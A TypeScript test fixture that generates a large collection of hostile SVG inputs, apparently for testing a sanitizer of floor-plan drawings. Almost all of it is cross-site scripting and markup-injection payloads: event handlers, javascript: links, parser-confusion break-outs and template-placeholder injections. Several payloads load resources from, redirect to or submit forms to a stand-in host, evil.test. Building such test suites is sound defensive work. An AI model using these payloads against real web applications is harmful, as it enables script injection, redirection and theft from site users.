/** Hostile drawings: what a floor plan could contain. Each is the content of one `<svg>`. */
import { htmlPayloads } from './html'

const shapes =
  'a animate animateMotion animateTransform circle clipPath defs desc ellipse feImage filter foreignObject g handler image line linearGradient listener marker mask metadata mpath path pattern polygon polyline rect script set stop style svg switch symbol text textPath title tspan use view'.split(
    ' ',
  )
const handlers =
  'load error click focus focusin mouseover begin end repeat activate unload zoom resize animationstart pointerover'.split(
    ' ',
  )

const special: readonly string[] = [
  ...['<script>alert(1)</script>', '<script xlink:href="data:text/javascript,alert(1)"/>'],
  '<style>@import url(https://evil.test/a.css); rect{fill:url(https://evil.test/fill#x)}</style>',
  '<style>rect{fill:red}</style><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>',
  '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  '<style>*{background:url("https://evil.test/bg");behavior:url(#x)}</style>',
  '<rect style="fill:url(https://evil.test/fill)" width="9" height="9"/>',
  '<rect fill="url(https://evil.test/fill#x)" width="9" height="9"/>',
  '<rect fill="u\\72l(https://evil.test/esc)" width="9" height="9"/>',
  '<rect filter="url(https://evil.test/filter#x)" mask="url(https://evil.test/mask#x)" clip-path="url(https://evil.test/clip#x)" marker-start="url(https://evil.test/m#x)" cursor="url(https://evil.test/c)" width="9" height="9"/>',
  '<rect fill="red&quot; onload=&quot;alert(1)" width="9" height="9"/>',
  '<rect id="&quot;><img src=x onerror=alert(1)>" width="9" height="9"/>',
  '<rect id="&lt;/svg>&lt;img src=x onerror=alert(1)>" width="9" height="9"/>',
  '<text>&lt;img src=x onerror=alert(1)&gt;</text>',
  '<text>&lt;/text&gt;&lt;/svg&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>',
  ...['<text x="&quot;/><script>alert(1)</script>">x</text>', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  '<text><tspan onclick="alert(1)">x</tspan><meta http-equiv="refresh" content="0;url=https://evil.test/refresh"></text>',
  '<foreignObject><meta http-equiv="refresh" content="0;url=https://evil.test/refresh"/></foreignObject>',
  '<foreignObject><form action="https://evil.test/"><input/></form></foreignObject>',
  ...['<image href="https://evil.test/image"/>', '<image href="javascript:alert(1)"/>'],
  '<image href="data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;alert(1)&quot;/>"/>',
  '<filter id="f"><feImage xlink:href="https://evil.test/fe"/></filter><rect filter="url(#f)" width="9" height="9"/>',
  ...['<use href="https://evil.test/use.svg#x"/>', '<use href="data:image/svg+xml,<svg id=&quot;x&quot;/>#x"/>'],
  '<a href="javascript:alert(1)"><rect width="900" height="900"/></a>',
  '<a href="https://evil.test/" target="_blank"><text>x</text></a>',
  '<a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a>',
  '<a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a>',
  '<a xmlns:xlink="http://www.w3.org/1999/xlink"><animate attributeName="xlink:href" from="javascript:alert(1)" to="x" begin="0s"/></a>',
  ...['<set attributeName="onmouseover" to="alert(1)"/>', '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'],
  '<animate attributeName="x" values="0;9" begin="0s" end="indefinite" onend="alert(1)" onrepeat="alert(1)" repeatCount="3" dur=".1s"/>',
  '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
  ...['<desc><img src=x onerror=alert(1)></desc>', '<title><img src=x onerror=alert(1)></title>'],
  '<title><style></title><img src=x onerror=alert(1)></style></title>',
  ...['<?xml-stylesheet href="https://evil.test/a.css"?>', '<!-- --!><img src=x onerror=alert(1)> -->'],
  '<mglyph><style><!--</style><img src=x onerror=alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  ...['<g id="__proto__"><rect id="constructor" width="9" height="9"/></g>', '<text>\ud83d</text>'],
  '<text data-route="x" data-island="popup" data-defer="touch" data-island-status="server">x</text>',
  ...['<svg onload="alert(1)"><svg/onload=alert(1)></svg></svg>', '<p><img src=x onerror=alert(1)></p>'],
  ...['<b><img src=x onerror=alert(1)>', '<body onload=alert(1)>', '</svg><img src=x onerror=alert(1)><svg>'],
  '</g></svg><meta http-equiv="refresh" content="0;url=https://evil.test/refresh">',
  '<path d="M0 0&quot;/><script>alert(1)</script>"/>',
  '<rect transform="rotate(1)&quot;onload=&quot;alert(1)" width="9" height="9"/>',
]

/**
 * Against code that assembles drawings from text: attributes that look like a placeholder, like the start of an element
 * that is removed, or like part of a replacement pattern. `unit` is the text that is inserted.
 */
const marks =
  "⟦0⟧ {{0}} {0} %0% [0] $0 $& $` $' #{0} __0__ <!--0--> \u00000\u0000 <text <g </g <a <rect unit_100".split(' ')
const breakOut =
  '><img src=x onerror=alert(1)><meta http-equiv=refresh content=0;url=https://evil.test/> onclick=alert(1) '
export const unit = `<path id="unit_100" d="${breakOut}" transform="${breakOut}" fill="${breakOut}"/>`
const misplaced = marks.flatMap((mark) => {
  const attribute = mark.replaceAll('<', '&lt;')
  return [
    `<g id="${attribute}"><text>x</text><path d="${breakOut}"/></g>`,
    `<path d="${attribute}" transform="${attribute}" fill="${attribute}"/><text>${attribute}</text>`,
  ]
})

/** Handlers on every element, some of HTML's payloads, and those of SVG; a drawing nested too deeply is rejected. */
export const svgPayloads = (): string[] => [
  ...new Set([
    ...special,
    ...misplaced,
    ...shapes.flatMap((shape) =>
      handlers.map(
        (on) =>
          `<${shape} id="unit_100" on${on}="alert(1)" href="javascript:alert(1)" attributeName="x" dur="1s" width="9" height="9">x</${shape}>`,
      ),
    ),
    ...htmlPayloads().filter((text, index, all) => text.length < 2000 && (index % 8 === 0 || index > all.length - 300)),
  ]),
]
